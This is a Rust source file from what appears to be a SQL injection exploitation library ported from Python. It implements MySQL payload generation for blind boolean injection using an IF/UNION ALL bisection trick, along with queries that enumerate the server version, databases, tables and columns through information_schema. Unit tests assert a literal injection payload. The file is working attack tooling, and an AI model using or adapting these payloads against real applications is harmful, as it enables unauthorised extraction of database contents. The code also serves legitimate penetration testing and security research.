use crate::context::Context;
use crate::error::Result;
use crate::forge::SqlForge;

/// MySQL 5+ dialect, grounded in `pysqli.dbms.mysql5.MysqlForge`.
pub struct MysqlForge {
    context: Context,
}

impl MysqlForge {
    pub fn new(context: Context) -> Self {
        Self { context }
    }
}

impl SqlForge for MysqlForge {
    fn context(&self) -> &Context {
        &self.context
    }

    fn wrap_bisec(&self, cdt: &str) -> Result<String> {
        let d = self.wrap_field(self.context.default_value());
        Ok(self.wrap_sql(&format!(
            "SELECT IF({cdt},{d},(SELECT {d} UNION ALL SELECT {d} ))"
        )))
    }

    fn get_version(&self) -> Result<String> {
        Ok("@@VERSION".to_string())
    }

    fn get_databases(&self) -> Result<String> {
        Ok("SELECT schema_name FROM information_schema.schemata".to_string())
    }

    fn get_tables(&self, db: &str) -> Result<String> {
        Ok(format!(
            "SELECT table_name FROM information_schema.tables WHERE table_schema={}",
            self.wrap_string(db)
        ))
    }

    fn get_fields(&self, table: &str, db: &str) -> Result<String> {
        Ok(format!(
            "SELECT column_name FROM information_schema.columns WHERE table_schema={} AND table_name={}",
            self.wrap_string(db),
            self.wrap_string(table)
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::context::{FieldType, Method, Params};
    use indexmap::IndexMap;

    fn default_int_context() -> Context {
        let mut values = IndexMap::new();
        values.insert("id".to_string(), "1".to_string());
        Context::builder()
            .method(Method::Blind)
            .field_type(FieldType::Int)
            .default_value("1")
            .truncate(false)
            .params(Params::Mapping {
                values,
                target: "id".to_string(),
            })
            .build()
            .unwrap()
    }

    #[test]
    fn wrap_bisec_matches_reference_payload() {
        let forge = MysqlForge::new(default_int_context());
        let sql = forge.wrap_bisec("1<2").unwrap();
        assert_eq!(
            sql,
            "1 OR (SELECT IF(1<2,1,(SELECT 1 UNION ALL SELECT 1 )))=1 "
        );
    }

    #[test]
    fn get_tables_quotes_database_name() {
        let forge = MysqlForge::new(default_int_context());
        let sql = forge.get_tables("mydb").unwrap();
        assert!(sql.contains("table_schema='mydb'"));
    }
}
